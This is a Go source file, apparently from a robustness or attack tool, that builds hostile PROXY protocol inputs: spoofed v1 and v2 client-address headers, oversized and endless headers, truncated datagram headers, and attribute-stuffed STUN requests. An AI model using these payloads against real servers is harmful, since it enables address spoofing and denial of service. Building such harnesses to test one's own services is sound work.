// Attacks on the PROXY protocol, by who connects from a proxy's network, and by who does not.

package main

import (
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"net"
)

const (
	proxySignature = "\r\n\r\n\x00\r\nQUIT\n"
	proxyLocal     = 0x20
	proxyProxy     = 0x21
	proxyStream    = 0x11 // of IPv4
	proxyDatagram  = 0x12
	mostHeader     = 0xffff
	endlessLine    = "PROXY UNKNOWN "
	mostDatagram   = 65507
)

// named is the address of a client that a proxy may speak for: of thousands of networks, or of one.
func (a *attacker) named() net.IP {
	if a.spread {
		return net.IPv4(byte(11+rand.IntN(80)), byte(rand.IntN(256)), byte(rand.IntN(256)), 1).To4()
	}
	return net.IPv4(203, 0, 113, byte(1+rand.IntN(254))).To4()
}

// proxyLine is a header of version 1.
func proxyLine(client net.IP) []byte {
	return fmt.Appendf(nil, "PROXY TCP4 %s 198.51.100.1 40000 443\r\n", client)
}

// proxyHeader is one of version 2, with so many bytes of TLVs.
func proxyHeader(buf []byte, kind byte, client net.IP, tlvs int) []byte {
	buf = append(append(buf, proxySignature...), proxyProxy, kind)
	buf = binary.BigEndian.AppendUint16(buf, uint16(12+tlvs))
	buf = append(append(buf, client...), 198, 51, 100, 1)
	buf = binary.BigEndian.AppendUint32(buf, 40000<<16|443)
	return append(buf, make([]byte, tlvs)...)
}

// longHeader is as long as may be.
func longHeader() []byte {
	return proxyHeader(nil, proxyStream, net.IPv4(203, 0, 113, 1).To4(), mostHeader-12)
}

func localHeader() []byte { return append([]byte(proxySignature), proxyLocal, 0, 0, 0) }

func endlessProxyLine() func() byte { return endless(endlessLine, 'a') }

// behind opens a connection, and sends a header.
func (a *attacker) behind(header []byte) (*client, error) {
	c, err := bare(a)
	if err != nil {
		return nil, err
	}
	if _, err := c.conn.Write(header); err != nil {
		c.conn.Close()
		return nil, err
	}
	return c, nil
}

func forClient(a *attacker) (*client, error) {
	return a.behind(proxyHeader(nil, proxyStream, a.named(), 0))
}

func forClientShaken(a *attacker) (*client, error) { return a.shake(forClient) }

func forNobody(a *attacker) (*client, error) { return a.behind(localHeader()) }

// stunProxied is a request behind a header: one that fills the datagram, half of one, one that is for
// TCP; and behind a right one a request with attributes that fill a packet.
func stunProxied(buf []byte, number uint32) []byte {
	client := net.IPv4(203, 0, byte(number>>8), byte(number)).To4()
	if number%32 == 0 {
		return stunRequest(proxyHeader(buf, proxyDatagram, client, mostDatagram-28-stunSize), number)
	}
	switch number % 3 {
	case 0:
		return proxyHeader(buf, proxyDatagram, client, 0)[:number/3%28]
	case 1:
		return stunRequest(proxyHeader(buf, proxyStream, client, 0), number)
	default:
		return stunAttributes(proxyHeader(buf, proxyDatagram, client, 0), number)
	}
}

func stunRequest(buf []byte, number uint32) []byte {
	size := len(buf)
	buf = append(buf, make([]byte, stunSize)...)
	request(buf[size:], 1, 0, number)
	return buf
}

// stunAttributes is a request whose attributes have no values, and fill a packet.
func stunAttributes(buf []byte, number uint32) []byte {
	buf = stunRequest(buf, number)
	length := buf[len(buf)-stunSize+2:]
	buf = buf[:len(buf)-stunSize+20]
	for range (segment - 20) / 4 {
		buf = append(buf, 0x7f, 0xff, 0, 0)
	}
	binary.BigEndian.PutUint16(length, (segment-20)/4*4)
	return buf
}
